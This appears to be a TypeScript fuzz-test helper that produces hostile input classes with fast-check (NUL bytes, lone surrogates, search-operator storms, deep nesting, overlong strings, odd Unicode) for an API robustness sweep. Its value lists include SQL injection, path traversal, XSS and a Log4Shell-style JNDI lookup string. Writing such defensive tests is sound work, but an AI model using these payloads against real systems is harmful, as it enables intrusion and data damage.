import fc from 'fast-check';

// The hostile values the sweep (test/sweep.test.ts) sends, one class at a time into one field of one
// operation. Each class is a fast-check arbitrary, so a seed picks the same values every run.

/** The classes of hostile input; docs/behaviour.md lists them. */
export const CLASSES = ['nul', 'surrogate', 'storm', 'deep', 'number', 'long', 'type', 'unicode'] as const;
export type HostileClass = (typeof CLASSES)[number];

/** A value nested `levels` deep, written as text only when sent (JSON.stringify itself cannot write 5,000 levels). */
export interface Deep {
  deep: number;
  shape: '[' | '{';
}

export const isDeep = (value: unknown): value is Deep =>
  typeof value === 'object' && value !== null && typeof (value as Deep).deep === 'number' && 'shape' in value;

/** Search operators in runs (websearch_to_tsquery's `-`, `!`, quotes, parentheses, `<->`, `:*`), and SQL and template look-alikes. */
const STORMS = [
  '-'.repeat(50),
  '- '.repeat(200),
  '!-'.repeat(250),
  '"'.repeat(101),
  '"a" '.repeat(150),
  '('.repeat(120),
  ')'.repeat(120),
  '<->'.repeat(80),
  ':*'.repeat(80),
  '& | ! ( ) '.repeat(60),
  'a:* & !b <-> (c | "d") '.repeat(20),
  'or '.repeat(150),
  '\\'.repeat(101),
  "'".repeat(101),
  '%_'.repeat(100),
  "'; drop table articles; --",
];

const numbers = fc.constantFrom<unknown>(
  1e308,
  -1e308,
  -0,
  2 ** 63,
  -(2 ** 63),
  2 ** 53 + 1,
  2147483648,
  -2147483649,
  1.5,
  -1,
  0,
  'NaN',
  'Infinity',
  '-0',
  '1e308',
  '9223372036854775808',
  '0x10',
  '1_000',
  ' 7 ',
);

const wrongTypes = fc.constantFrom<unknown>(12, true, false, null, [], {}, ['x'], { a: 1 }, [[['x']]], 'a string', '', ' ');

const unicode = fc.constantFrom(
  '\u202eevil.exe',
  'a\u200db\u200c',
  'e\u0301'.repeat(600),
  '\ufeffBOM',
  '\uffff\ufffe',
  'line\u2028sep\u2029',
  'Ｆｕｌｌ　ｗｉｄｔｈ',
  'İıßẞ',
  'next\u0085line',
  'tab\tcr\rlf\n',
  '😀'.repeat(300),
  '\u0001\u001f\u007f',
  '../../etc/passwd',
  '%00%2e%2e%ff',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}{{7*7}}',
);

const prefix = fc.string({ maxLength: 6 });

const ARBITRARIES: Record<HostileClass, fc.Arbitrary<unknown>> = {
  nul: fc.tuple(prefix, fc.constantFrom('\u0000', 'a\u0000b', '\u0000'.repeat(64)), prefix).map(([a, b, c]) => a + b + c),
  surrogate: fc.tuple(prefix, fc.constantFrom('\ud800', '\udfff', 'x\ud83d', '\ude00y', '\udbff\udbff')).map(([a, b]) => a + b),
  storm: fc.constantFrom(...STORMS),
  deep: fc.record({ deep: fc.constantFrom(5000, 600, 513, 100), shape: fc.constantFrom<'[' | '{'>('[', '{') }),
  number: numbers,
  long: fc
    .constantFrom(201, 513, 4097, 16_385, 100_001, 300_000)
    .chain((n) =>
      fc.constantFrom('x'.repeat(n), '€'.repeat(Math.ceil(n / 3)), '😀'.repeat(Math.ceil(n / 4)), 'a '.repeat(Math.ceil(n / 2))),
    ),
  type: wrongTypes,
  unicode,
};

/** One value of a class, the same for the same seed. */
export function hostileValue(klass: HostileClass, seed: number): unknown {
  return fc.sample(ARBITRARIES[klass], { seed, numRuns: 1 })[0];
}

/** A stable number for a name (an operation and field), to derive each case's seed from the run's. */
export function hashOf(text: string): number {
  let h = 2166136261;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 16777619);
  return h >>> 0;
}

const MARK = '\u0001deep\u0001';
const PLACEHOLDER = JSON.stringify(MARK);

/** JSON text of a value that may hold a Deep somewhere (one at most): the nesting is written out as text. */
export function jsonText(value: unknown): string {
  let deep: Deep | null = null;
  const text = JSON.stringify(value, (_key, v: unknown) => {
    if (!isDeep(v)) return v;
    deep = v;
    return MARK;
  });
  if (!deep) return text;
  const { deep: levels, shape } = deep as Deep;
  const nested = shape === '[' ? `${'['.repeat(levels)}${']'.repeat(levels)}` : `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
  return text.replace(PLACEHOLDER, () => nested);
}

/** A value as it travels in a URL (path segment or query value): UTF-8 percent-encoded; an unpaired surrogate as the bytes a sloppy encoder writes. */
export function urlText(value: unknown): string {
  const text = isDeep(value) ? jsonText(value) : typeof value === 'string' ? value : JSON.stringify(value);
  if ((text as string & { isWellFormed(): boolean }).isWellFormed()) return encodeURIComponent(text);
  return [...text]
    .map((ch) => (ch.length === 1 && ch >= '\ud800' && ch <= '\udfff' ? surrogateBytes(ch) : encodeURIComponent(ch)))
    .join('');
}

/** An unpaired surrogate as CESU-8 bytes, percent-encoded (what a sloppy encoder writes; not UTF-8). */
function surrogateBytes(ch: string): string {
  const unit = ch.charCodeAt(0);
  return [0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
}

/** A value as a header carries it: headers are bytes (Latin-1), so anything else is sent percent-encoded. */
export function headerText(value: unknown): string {
  const text = isDeep(value) ? jsonText(value) : typeof value === 'string' ? value : JSON.stringify(value);
  return /^[\t\x20-\x7e\x80-\xff]*$/.test(text) ? text : urlText(text);
}
